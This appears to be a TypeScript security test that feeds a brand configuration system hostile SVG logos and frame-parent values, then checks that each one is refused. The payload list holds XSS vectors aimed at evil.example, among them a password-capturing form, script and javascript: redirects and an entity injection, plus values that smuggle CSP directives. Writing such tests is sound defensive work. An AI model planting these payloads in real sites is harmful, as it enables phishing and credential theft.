// Test 46: drawings and frame parents that a brand's files bring along. A drawing is a stranger's text.
import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrandFile } from '#contracts/brand-file.ts';
import { readConfiguration } from '#server/modules/configuration/service.ts';
import type { SecurityTest } from './security-test.ts';

const ROOT = new URL('../..', import.meta.url).pathname;
const EVIL = 'evil.example';
/**
 * These drawings were seen to leave their frame, with their relatives. @source the HTML standard, "parsing foreign
 * content"; OWASP XSS Filter Evasion
 */
const INNER: readonly (readonly [string, string])[] = [
  ['an address to go to', `<meta http-equiv="refresh" content="2;url=https://${EVIL}/"/>`],
  ['a paragraph', `<p>Log in at ${EVIL}</p>`],
  ['a form', `<p></p><form action="https://${EVIL}/"><input name="password"/></form>`],
  ['a link', `<a href="https://${EVIL}/"><path d="M0 0"/></a>`],
  ['foreign content', `<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">${EVIL}</p></foreignObject>`],
  ['a style sheet', `<style>@import url(https://${EVIL}/x.css);</style>`],
  ['a script', `<script>location='https://${EVIL}/'</script>`],
  ['a handler', `<path onclick="location='https://${EVIL}/'"/>`],
  ['a script address', `<a href="javascript:location='https://${EVIL}/'"/>`],
  ['a shape elsewhere', `<use href="https://${EVIL}/a.svg#a"/>`],
  ['a colour elsewhere', `<path fill="url(https://${EVIL}/a.svg#a)"/>`],
  ['a picture elsewhere', `<image href="https://${EVIL}/a.png"/>`],
  ['the data of the page', `<text id="boot">{"brand":"${EVIL}"}</text><text class="${EVIL}">x</text>`],
];
const PARENTS = [
  'https://*',
  `https://*.${EVIL}`,
  `https://a.example;sandbox`,
  `https://${EVIL}/path`,
  `https://a.example https://${EVIL}`,
  `https://a.example; script-src https://${EVIL}`,
];

const drawings: SecurityTest = {
  number: '46',
  asvs: '1.3.4, 3.4.6',
  about: 'a brand’s drawings with mark-up, links, entities; frame parents with more than an origin: plan and page',
  run: async ({ harness, size, defer, refused, allowed }) => {
    const root = await mkdtemp(join(tmpdir(), 'refill-art-'));
    defer(() => rm(root, { recursive: true, force: true }));
    for (const folder of ['brands', 'games', 'channels'])
      await cp(join(ROOT, folder), join(root, folder), { recursive: true });
    const plain = await readConfiguration(root);
    allowed('the shipped files', plain.ok, plain.ok ? '' : plain.faults);
    const draw = (inner: string, head = '') =>
      `${head}<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 40">${inner}</svg>`;
    const files = [
      ...INNER.map(([name, inner]) => [name, draw(inner)] as const),
      ['a DOCTYPE with an entity', draw('&e;', `<!DOCTYPE svg [<!ENTITY e "<p>${EVIL}</p>">]>`)] as const,
      ['mark-up that is not well-formed', draw(`<g></svg><p>${EVIL}</p>`)] as const,
    ];
    const shop = await harness.shop();
    // In short every third: they are alike.
    for (const [name, svg] of files.filter((_, n) => size === 'full' || n % 3 === 0)) {
      await writeFile(join(root, 'brands/watt/assets/logo.svg'), svg);
      const read = await readConfiguration(root);
      const faults = read.ok ? '' : read.faults.map(({ sentence }) => sentence).join('\n');
      refused(`${name}, by the plan`, faults.startsWith('brands/watt/assets/logo.svg:1: '), faults);
      // It came into the folder all the same.
      const app = await harness.makePages(shop, root);
      const get = (url: string) => app.inject({ url, headers: { host: 'watt.demo.localhost', accept: 'text/html' } });
      const page = await get('/');
      refused(`${name}, in the page`, page.statusCode === 200 && !page.body.includes(EVIL), page.body.slice(0, 200));
      refused(`${name}, as a file`, (await get('/brands/watt/logo.svg')).statusCode === 404);
      await app.close();
    }

    const framed = await harness.makeShop({ brands: { watt: { embedParents: PARENTS } as Partial<BrandFile> } });
    defer(() => framed.close());
    const app = await harness.makePages(framed);
    defer(() => app.close());
    const url = '/userCenter?visit=sdk';
    const { headers } = await app.inject({ url, headers: { host: 'watt.demo.localhost', accept: 'text/html' } });
    const policy = String(headers['content-security-policy']);
    refused(
      'frame parents that are no origins',
      policy.includes("frame-ancestors 'none';") && !policy.includes(EVIL),
      policy,
    );
  },
};

export const ART_TESTS: readonly SecurityTest[] = [drawings];
